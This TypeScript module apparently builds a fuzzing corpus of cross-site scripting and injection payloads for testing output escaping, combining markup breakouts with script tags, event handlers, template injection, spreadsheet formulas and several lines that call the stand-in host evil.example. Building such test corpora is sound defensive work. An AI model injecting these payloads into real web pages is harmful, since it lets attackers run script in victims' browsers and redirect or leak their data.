const calls = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.example")',
  'top.location="//evil.example"',
  'eval(name)',
]
const openings = [
  '',
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '-->',
  ']]>',
  '</style>',
  '</script>',
]

const tags = (call: string) => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<a href="javascript:${call}">x</a>`,
  `<iframe srcdoc="<script>${call}</script>">`,
]

const others = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus '",
  '` onload=`alert(1)`',
  'x onerror=alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&quot;&gt;&lt;img&gt;',
  '<!--',
  '<![CDATA[<script>]]>',
  '<base href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><button>',
  '<link rel=stylesheet href="//evil.example">',
  '<style>*{background:url(//evil.example)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{alert(1)}'].join(''),
  '<%= alert(1) %>',
  '\u202E<b>gnp.exe',
  'a\u2028<script>',
  '<\u0000script>',
  '=HYPERLINK("//evil.example")',
  '</p></main></body></html><h1>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="//evil.example">',
  '<marquee onstart=alert(1)>',
]

/** What strangers may have typed into a name, a note or a number to get markup into a page. */
export const payloads: readonly string[] = [
  ...openings.flatMap((opening, at) =>
    calls
      .flatMap((call) => tags(call).map((tag) => opening + tag))
      .filter((_, i) => (i + at) % 2 === 0),
  ),
  ...others,
]
